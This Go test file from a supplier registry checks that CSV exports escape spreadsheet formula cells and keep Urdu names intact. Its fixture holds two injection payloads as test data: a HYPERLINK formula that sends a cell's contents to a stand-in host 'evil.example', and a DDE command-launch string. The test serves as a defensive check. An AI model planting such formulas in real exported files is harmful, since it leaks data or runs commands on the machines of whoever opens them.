package registry

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/actionhub/actionhub/domain/sheet"
)

// TestExportIsSafeForSpreadsheets: a facility a brand named as a formula
// comes out of the export as text, Urdu names come back as they went in,
// and the file starts with the byte-order mark spreadsheets need for them.
func TestExportIsSafeForSpreadsheets(t *testing.T) {
	w := newWorld(t)
	evil := mill(`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `+cmd|' /C calc'!A0`)
	n, _, err := w.reg.Nominate(as(w.brandA), NominationInput{Facility: evil})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.reg.Accept(as(w.staff), n.ID, ""); err != nil {
		t.Fatal(err)
	}
	urdu := mill("گل احمد ٹیکسٹائل ملز", "پلاٹ ۵، سائٹ")
	urdu.City = "کراچی"
	w.create(t, w.reg, urdu)

	for _, who := range []string{"staff", "brand"} {
		a := w.staff
		if who == "brand" {
			a = w.brandA
		}
		var b bytes.Buffer
		if _, err := w.reg.ExportSuppliers(as(a), SupplierFilter{}, &b); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(b.Bytes(), []byte(sheet.BOM)) {
			t.Fatalf("%s export has no byte-order mark: %q", who, b.String()[:10])
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), sheet.BOM))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		byName := map[string][]string{}
		for _, r := range rows[1:] {
			byName[r[1]] = r
		}
		if r, ok := byName["'"+evil.Name]; !ok || r[2] != "'"+evil.Address {
			t.Errorf("%s export does not neutralise the formula cells: %q", who, rows)
		}
		if who == "brand" {
			continue
		}
		if r, ok := byName[urdu.Name]; !ok || r[2] != urdu.Address || r[3] != "کراچی" {
			t.Errorf("Urdu row did not round-trip: %q", rows)
		}
	}
}
